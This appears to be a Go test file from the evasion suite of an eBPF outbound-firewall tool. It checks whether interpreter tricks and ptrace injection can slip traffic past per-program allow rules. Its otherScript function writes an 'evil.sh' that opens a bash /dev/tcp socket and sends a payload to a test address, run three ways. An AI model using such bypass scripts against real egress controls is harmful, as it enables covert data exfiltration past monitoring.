package evasion

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"snitch/bpf/bpftest"
)

// interpretAttempts have a permitted program do what its rule did not mean.
func interpretAttempts() []attempt {
	const script = `
confine:
  - {id: locked, process: any}
rules:
  - {id: good, action: allow, process: {exe: "{bash}", script: "{dir}/good.sh"}, to: {host: 10.77.0.9}}
`
	bash := []*bpftest.Feature{{Name: "bash", Probe: func() error { _, err := exec.LookPath("bash"); return err }}}
	return []attempt{
		{name: "other-script", does: "a permitted interpreter that runs another script, or commands of its command line", result: stopped, by: "`script` beside the interpreter's path", short: true,
			needs: bash, rules: script, act: otherScript},
		{name: "interpreter", does: "the same, where the rule names the interpreter alone", result: limit, by: "who may run an interpreter is every program: add `script` or `script_sha256`",
			needs: bash, rules: strings.Replace(script, `, script: "{dir}/good.sh"`, "", 1), act: otherScript},
		{name: "trace", does: "system calls put into a permitted program by `ptrace` (as `LD_PRELOAD`, `/proc/PID/mem`)", result: limit,
			by: "the permitted program is the attacker then. Needs its user and no Yama restriction, or root", needs: []*bpftest.Feature{bpftest.TinyELF()}, rules: onlyGood,
			help: func(*place) error { return nil }, act: traceInto},
	}
}

// bashPath is the program behind the name.
func bashPath() string {
	path, err := exec.LookPath("bash")
	if err != nil {
		return ""
	}
	if real, err := filepath.EvalSymlinks(path); err == nil {
		return real
	}
	return path
}

// otherScript sends from a script with another name, and from none. Both wait
// until the kernel knows the shell, as the probe does.
func otherScript(p *place) error {
	text := fmt.Sprintf("for i in 1 2 3 4 5 6 7 8 9 10; do exec 3>/dev/tcp/%s/%d && break; sleep 0.1; done 2>/dev/null; printf %%s '%s' >&3\n",
		p.V4.Addr(), p.V4.Port(), payload)
	evil := filepath.Join(p.Dir, "evil.sh")
	if err := os.WriteFile(evil, []byte("#!"+bashPath()+"\n"+text), 0o755); err != nil {
		return err
	}
	run := func(name string, args ...string) func() error {
		return func() error {
			cmd := exec.Command(name, args...)
			cmd.WaitDelay = 10 * time.Second
			if said, err := cmd.CombinedOutput(); err != nil {
				return fmt.Errorf("%s: %w: %s: %w", name, err, said, unix.EPERM)
			}
			return nil
		}
	}
	return each(run(evil), run(bashPath(), evil), run(bashPath(), "-c", text))
}
